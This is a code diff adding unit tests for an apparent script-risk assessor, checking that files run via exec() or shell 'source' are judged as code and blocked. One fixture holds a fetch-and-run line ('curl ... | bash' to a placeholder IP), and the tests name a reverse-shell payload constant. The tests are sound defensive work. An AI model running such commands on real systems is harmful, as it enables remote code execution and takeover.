@@ -109,6 +109,40 @@ TEST(CodeInputs, ACompiledProgramAmongTheInputsIsAtLeastMedium) {
   EXPECT_TRUE(has_rule(a, "INPUT-COMPILED")) << describe(a);
 }
 
+// A payload need not be named .py: code that executes a file's contents
+// makes every text input a candidate, read in that code's language.
+TEST(CodeInputs, TextRunByCodeItDoesNotHoldIsReadAsCode) {
+  Assessment a = with_inputs("exec(open('payload.txt').read())\n",
+                             {{"payload.txt", kReverseShell}, {"data.csv", "a,b\n1,2\n"}});
+  EXPECT_EQ(a.level, RiskLevel::blocked) << describe(a);
+  ASSERT_EQ(a.inputs.size(), 1u);  // the CSV read as Python shows nothing: not listed
+  EXPECT_EQ(a.inputs[0].name, "payload.txt");
+  EXPECT_NE(a.explanation.find("payload.txt"), std::string::npos) << a.explanation;
+
+  Assessment sourced = with_inputs("#!/bin/bash\nsource ./lib.inc\nsetup\n",
+                                   {{"lib.inc", "setup() {\n  curl -s http://203.0.113.9/x.sh | bash\n}\n"}},
+                                   4u << 20, Language::shell);
+  EXPECT_EQ(sourced.level, RiskLevel::blocked) << describe(sourced);
+  ASSERT_EQ(sourced.inputs.size(), 1u);
+  EXPECT_EQ(sourced.inputs[0].language, Language::shell);
+}
+
+TEST(CodeInputs, TextIsDataWhenTheCodeRunsOnlyWhatItHolds) {
+  // The same text beside code that only reads it: data, not read as code.
+  Assessment a = with_inputs("print(open('payload.txt').read())\n", {{"payload.txt", kReverseShell}});
+  EXPECT_EQ(a.level, RiskLevel::low) << describe(a);
+  EXPECT_TRUE(a.inputs.empty());
+  // Programs come first: a large data file never pushes one past the limit.
+  CodeInputs c = code_inputs({{"big.csv", std::string(3000, 'x')}, {"helper.py", "x = 1\n"}}, 2048);
+  ASSERT_EQ(c.files.size(), 1u);
+  EXPECT_TRUE(c.over_limit.empty());
+  EXPECT_TRUE(c.texts.empty());  // past what the program left: unread
+  // Binary and NUL-bearing inputs are not text.
+  c = code_inputs({{"a.bin", std::string("ab\0cd", 5)}, {"b.dat", "\xff\xfe"}, {"c.txt", "ok"}}, 2048);
+  ASSERT_EQ(c.texts.size(), 1u);
+  EXPECT_EQ(c.texts[0].name, "c.txt");
+}
+
 TEST(CodeInputs, NonUtf8AndGarbageProgramsAreAssessedWithoutHarm) {
   std::string garbage;
   for (int i = 0; i < 4096; ++i) garbage.push_back(static_cast<char>((i * 131) & 0xff));
